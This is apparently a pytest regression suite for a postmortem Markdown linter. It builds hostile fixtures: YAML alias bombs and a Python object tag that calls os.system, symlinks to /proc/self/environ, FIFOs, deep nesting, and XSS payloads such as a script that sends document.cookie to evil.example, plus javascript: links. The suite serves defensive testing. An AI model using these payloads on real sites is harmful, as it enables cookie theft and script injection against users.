"""Hostile and broken input (issue 6): one regression fixture per class, with its finding and exit code.

Every case is a repository with one postmortem (or a link, a FIFO...) made from the clean
fixture. The gate must give the expected coded finding at the expected line and exit 1 (or 0
for input that is fine), never raise, hang or read what it must not. Cases that would hang or
leak if the protection regressed (FIFOs, link loops, symlinks out of the repository) run the
real CLI in a subprocess with a timeout, so a regression fails the test instead of stalling CI.
The last tests put all of them in one corpus: every other file is still checked.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import pytest

from conftest import REPO, clean_text, run_cli
from linter.safe_text import readable_path
from linter.document import parse_text
from linter.markdown_limits import MAX_HEADINGS, MAX_NESTING
from linter.rules import nesting_too_deep

NAME = "2026-04-07-checkout-errors-after-pricing-update.md"
HANG_GUARD_SECONDS = 120  # not a speed assertion: only keeps a regression from stalling CI


def frontmatter_edit(old: str, new: str) -> Callable[[], str]:
    def make() -> str:
        text = clean_text()
        assert old in text
        return text.replace(old, new, 1)
    return make


def frontmatter_extra(lines: str) -> Callable[[], str]:
    """Extra frontmatter lines after the last key (``tags``, line 23): they start at line 24."""
    return frontmatter_edit("tags: [pricing, llm]\n", "tags: [pricing, llm]\n" + lines)


LESSONS = clean_text() + "\n## Lessons learned\n\n"
BODY_LINE = len(LESSONS.splitlines()) + 1  # the first line of text appended by ``body_extra``
HEADINGS = sum(1 for line in LESSONS.splitlines() if line.startswith("#"))


def body_extra(markdown: str) -> Callable[[], str]:
    return lambda: LESSONS + markdown


ALIAS_BOMB = "".join(
    f"{name}: &{name} [{', '.join([previous] * 9)}]\n"
    for name, previous in zip("abcdefghi", ['"lol"', "*a", "*b", "*c", "*d", "*e", "*f", "*g", "*h"])
)


@dataclass(frozen=True)
class Hostile:
    name: str
    content: Callable[[], str | bytes] | None  # the postmortem's text or bytes (None: see ``make``)
    code: str  # the finding it must give
    line: int  # at this line
    exit_code: int = 1
    make: Callable[[Path], None] | None = None  # builds non-files (links, FIFOs) in postmortems/
    isolated: bool = False  # run the CLI in a subprocess with a timeout
    file: str = NAME  # the path, under postmortems/, the finding is reported for


def _symlink(target: str, name: str = NAME) -> Callable[[Path], None]:
    return lambda folder: os.symlink(target, folder / name)


def _link_loop(folder: Path) -> None:
    os.symlink("2026-04-07-loop-b.md", folder / NAME)
    os.symlink(NAME, folder / "2026-04-07-loop-b.md")


def _directory_loop(folder: Path) -> None:
    os.symlink(".", folder / "again")
    os.symlink("..", folder / "up")


def _fifo(folder: Path) -> None:
    os.mkfifo(folder / NAME)


UNDECODABLE_NAME = os.fsdecode(b"2026-04-07-caf\xe9-checkout.md")  # Latin-1 bytes: lone surrogates in Python


def _undecodable_name(folder: Path) -> None:
    (folder / UNDECODABLE_NAME).write_text(clean_text(), encoding="utf-8")


CASES = [
    # --- YAML 1.1 reads these differently: an explicit finding, the YAML 1.2 value kept
    Hostile("yaml11-sexagesimal-time", frontmatter_edit("tags: [pricing, llm]", "tags: [pricing, 14:03]"), "PM106", 23),
    Hostile("yaml11-boolean-words", frontmatter_edit("tags: [pricing, llm]", "tags: [pricing, no, on]"), "PM106", 23),
    Hostile("yaml11-octal", frontmatter_edit("tags: [pricing, llm]", "tags: [pricing, 0755]"), "PM106", 23),
    Hostile("yaml-version-number-as-float", frontmatter_edit("tags: [pricing, llm]", "tags: [pricing, 1.10]"), "PM102", 23),
    Hostile("duplicate-key", frontmatter_extra("severity: SEV4\n"), "PM004", 24),
    Hostile("on-key", frontmatter_extra("on: checkout\n"), "PM106", 24),
    Hostile("true-key", frontmatter_extra("true: checkout\n"), "PM005", 24),
    Hostile("impossible-unquoted-date", frontmatter_edit('date: "2026-04-07"', "date: 2026-02-30"), "PM102", 4),
    Hostile("5000-digit-integer", frontmatter_edit("users_affected: 3214", "users_affected: " + "9" * 5000), "PM005", 16),
    Hostile("deep-yaml-nesting", frontmatter_edit("tags: [pricing, llm]", "tags: " + "[" * 500 + "]" * 500), "PM005", 23),
    Hostile("alias-bomb", frontmatter_extra(ALIAS_BOMB), "PM005", 24),
    Hostile("self-referencing-alias", frontmatter_edit("services: [checkout, pricing-agent]", "services: &s [*s]"), "PM005", 7),
    Hostile("python-object-tag", frontmatter_extra("hook: !!python/object/apply:os.system [id]\n"), "PM005", 24),
    Hostile("non-string-key", frontmatter_extra("? [a, b]\n: c\n"), "PM005", 24),
    Hostile("frontmatter-is-a-list", lambda: "---\n- id: PM-2026-014\n- title: Checkout errors\n---\n\n# Checkout\n",
            "PM003", 2),
    Hostile("frontmatter-unparsable", frontmatter_edit("services: [checkout, pricing-agent]", "services: [checkout, pricing-agent"),
            "PM003", 8),
    Hostile("frontmatter-never-closed", lambda: clean_text().replace("\n---\n", "\n", 1)[: clean_text().index("\n# ")],
            "PM003", 1),
    Hostile("frontmatter-too-large", frontmatter_extra("notes: |\n" + "  x\n" * 40_000), "PM005", 2),
    # --- files
    Hostile("latin-1-file", lambda: clean_text().replace("title: Checkout errors", "title: Café checkout errors")
            .replace("→", "->").encode("cp1252"), "PM001", 3),
    Hostile("binary-file", lambda: b"---\nid: PM-2026-014\n\x00\x01\x02\xff\n---\n", "PM001", 3),
    Hostile("bom-and-crlf-accepted", lambda: b"\xef\xbb\xbf" + clean_text().replace("\n", "\r\n").encode("utf-8"),
            "", 0, exit_code=0),
    Hostile("oversized-file", lambda: clean_text() + "x" * (1024 * 1024), "PM001", 1),
    Hostile("punctuation-flood-refused-before-parsing", body_extra("![" * 20_000 + "\n"), "PM001", BODY_LINE),
    Hostile("symlink-to-proc-self-environ", None, "PM006", 1, make=_symlink("/proc/self/environ"), isolated=True),
    Hostile("symlink-outside-the-repository", None, "PM006", 1, make=_symlink("/etc/hostname"), isolated=True),
    Hostile("symlink-loop", None, "PM006", 1, make=_link_loop),
    Hostile("directory-symlink-loop", None, "PM006", 1, make=_directory_loop, isolated=True, file="again"),
    Hostile("fifo-named-md", None, "PM006", 1, make=_fifo, isolated=True),
    Hostile("file-name-not-utf8", None, "PM006", 1, make=_undecodable_name, isolated=True, file=UNDECODABLE_NAME),
    # --- Markdown that hangs or crashes the site's Python-Markdown build
    Hostile("deep-nested-lists", body_extra("".join("  " * level + "- x\n" for level in range(300))), "PM803", BODY_LINE + 8),
    Hostile("deep-nested-blockquotes", body_extra(">" * 300 + " x\n"), "PM803", BODY_LINE),
    Hostile("deep-nested-admonitions", body_extra("".join("    " * level + "!!! note\n\n" for level in range(400))),
            "PM803", BODY_LINE + 16),
    Hostile("deep-nested-emphasis", body_extra("**a " * 500 + "b" + "**" * 500 + "\n"), "PM803", BODY_LINE),
    Hostile("bracket-flood", body_extra("[" * 5000 + "\n"), "PM804", BODY_LINE),
    Hostile("nested-link-flood", body_extra("[" * 2000 + "a" + "](b)" * 2000 + "\n"), "PM804", BODY_LINE),
    Hostile("backtick-ladder", body_extra("".join("`" * rung + "a" for rung in range(1, 150)) + "\n"), "PM804", BODY_LINE),
    Hostile("heading-flood", body_extra("".join(f"### Step {n}\n\n" for n in range(300))), "PM804",
            BODY_LINE + 2 * (MAX_HEADINGS - HEADINGS)),  # at the first heading past the limit
    # --- content that runs script on the published site
    Hostile("raw-script", body_extra("<script>fetch('//evil.example/?'+document.cookie)</script>\n"), "PM801", BODY_LINE),
    Hostile("event-handler", body_extra('Checkout <b onmouseover="alert(1)">failed</b>.\n'), "PM801", BODY_LINE),
    Hostile("malformed-tag-with-handler", body_extra("Checkout <a/onclick=alert(1)>failed</a>.\n"), "PM801", BODY_LINE),
    Hostile("iframe", body_extra('<iframe src="https://evil.example"></iframe>\n'), "PM801", BODY_LINE),
    Hostile("html-title", frontmatter_edit("title: Checkout errors after pricing model update",
                                           'title: "<img src=x onerror=alert(1)>"'), "PM801", 3),
    Hostile("javascript-link", body_extra("[dashboard](javascript:alert(1))\n"), "PM802", BODY_LINE),
    Hostile("javascript-link-mixed-case", body_extra("[dashboard](JaVaScRiPt:alert(1))\n"), "PM802", BODY_LINE),
    Hostile("javascript-link-entity", body_extra("[dashboard](javascript&#58;alert(1))\n"), "PM802", BODY_LINE),
    Hostile("javascript-link-entity-letter", body_extra("[dashboard](&#106;avascript:alert(1))\n"), "PM802", BODY_LINE),
    Hostile("javascript-link-tab", body_extra("[dashboard](java&#x09;script:alert(1))\n"), "PM802", BODY_LINE),
    Hostile("javascript-reference", body_extra("[dashboard][d]\n\n[d]: javascript:alert(1)\n"), "PM802", BODY_LINE + 2),
    Hostile("data-html-link", body_extra("[dashboard](data:text/html;base64,PHNjcmlwdD4=)\n"), "PM802", BODY_LINE),
    Hostile("attr-list-onclick", body_extra("Checkout failed.\n{: onclick=\"alert(1)\" }\n"), "PM805", BODY_LINE + 1),
    Hostile("attr-list-inline-handler", body_extra("*failed*{onmouseover=alert(1)}\n"), "PM805", BODY_LINE),
    Hostile("suppressing-a-safety-rule", body_extra("<!-- postmortem-lint disable-file=PM801 -->\n\n<script>x</script>\n"),
            "PM801", BODY_LINE + 2),
    Hostile("suppressing-a-safety-rule-is-refused", body_extra("<!-- postmortem-lint disable-file=raw-html -->\n"),
            "PM902", BODY_LINE),
]


def _repository(tmp_path: Path) -> Path:
    repository = tmp_path / "repository"
    (repository / "postmortems").mkdir(parents=True)
    (repository / ".postmortem.toml").write_text("", encoding="utf-8")
    return repository


def _build(case: Hostile, folder: Path, name: str = NAME) -> None:
    if case.make is not None:
        case.make(folder)
        return
    content = case.content()
    data = content if isinstance(content, bytes) else content.encode("utf-8")
    (folder / name).write_bytes(data)


def lint_isolated(repository: Path, *args: str) -> tuple[int, list[dict]]:
    """The real CLI in a subprocess: a hang fails the test instead of stalling CI."""
    result = subprocess.run([sys.executable, "-m", "linter", "lint", "--format", "json", *args, "postmortems"],
                            cwd=repository, capture_output=True, text=True, timeout=HANG_GUARD_SECONDS,
                            env={**os.environ, "PYTHONPATH": str(REPO)})
    assert result.returncode in (0, 1), result.stderr
    assert "Traceback" not in result.stderr
    return result.returncode, json.loads(result.stdout)["findings"]


def lint_in_process(repository: Path, monkeypatch, *args: str) -> tuple[int, list[dict]]:
    monkeypatch.chdir(repository)
    result = run_cli("lint", "--format", "json", *args, "postmortems")
    assert result.code in (0, 1), result.err
    return result.code, result.json()["findings"]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_hostile_input_gives_its_finding_and_exit_code(case, tmp_path, monkeypatch):
    repository = _repository(tmp_path)
    _build(case, repository / "postmortems")
    if case.isolated:
        code, findings = lint_isolated(repository)
    else:
        code, findings = lint_in_process(repository, monkeypatch)
    assert code == case.exit_code, findings
    if not case.code:
        assert findings == []
        return
    located = {(f["path"], f["code"], f["line"]) for f in findings}
    # Paths in the output are readable_path()s: bytes that are not UTF-8 shown as \xNN.
    assert (readable_path(f"postmortems/{case.file}"), case.code, case.line) in located, sorted(located)


def test_a_safety_finding_survives_a_blanket_suppression(tmp_path, monkeypatch):
    repository = _repository(tmp_path)
    text = LESSONS + "<!-- postmortem-lint disable-file -->\n\n<script>x</script>\n"
    (repository / "postmortems" / NAME).write_text(text, encoding="utf-8")
    code, findings = lint_in_process(repository, monkeypatch)
    # <script> and </script>; the blanket suppression is left with nothing it may suppress (the
    # section holds the script block, so it is not empty; PM8 findings cannot be suppressed).
    assert [f["code"] for f in findings] == ["PM901", "PM801", "PM801"]
    assert code == 1


def test_every_other_file_is_still_checked(tmp_path):
    """All the hostile files in one corpus, with two clean ones: each file gives its own
    findings, the clean files none, and the run ends (in a subprocess, with a timeout)."""
    repository = _repository(tmp_path)
    folder = repository / "postmortems"
    expected = set()
    for index, case in enumerate(CASES):
        if case.make is not None:
            sub = folder / f"case-{index:02d}"
            sub.mkdir()
            case.make(sub)
            if case.code:
                expected.add((readable_path(f"postmortems/{sub.name}/{case.file}"), case.code, case.line))
            continue
        name = f"2026-04-07-case-{index:02d}.md"
        _build(case, folder, name)
        if case.code:
            expected.add((f"postmortems/{name}", case.code, case.line))
    for name in ("2026-04-08-clean-first.md", "2026-04-09-clean-second.md"):
        text = clean_text().replace("PM-2026-014", "PM-2026-1" + name[9] + name[8])
        (folder / name).write_text(text, encoding="utf-8")
    code, findings = lint_isolated(repository, "--ignore", "PM108,PM701")
    located = {(f["path"], f["code"], f["line"]) for f in findings}
    assert expected <= located, sorted(expected - located)
    assert [f for f in findings if "clean" in f["path"]] == []
    assert code == 1



@pytest.mark.parametrize("nested", [
    "".join("  " * level + "- x\n" for level in range(MAX_NESTING + 1)),
    "> " * (MAX_NESTING + 1) + "x\n",
], ids=["list", "blockquote"])
def test_the_parser_still_sees_what_follows_the_shallowest_reported_nesting(nested):
    """markdown-it stops nesting at 20 token levels and drops the rest of the file: PM803 must
    fire before that depth, or a <script> after a deep list would escape every rule."""
    document = parse_text("postmortems/x.md", LESSONS + nested + "\n<script>after</script>\n")
    assert any(token.type == "html_block" and "after" in token.content for token in document.tokens)
    assert [violation.line for violation in nesting_too_deep.check(document, None)]


def test_a_fifo_read_directly_is_refused_without_blocking(tmp_path):
    """A path swapped for a FIFO after discovery is neither read nor waited on."""
    import os

    from linter.document import read_document

    fifo = tmp_path / "2026-04-07-swapped.md"
    os.mkfifo(fifo)
    document = read_document(str(fifo))
    assert document.read_error and "not a regular file" in document.read_error
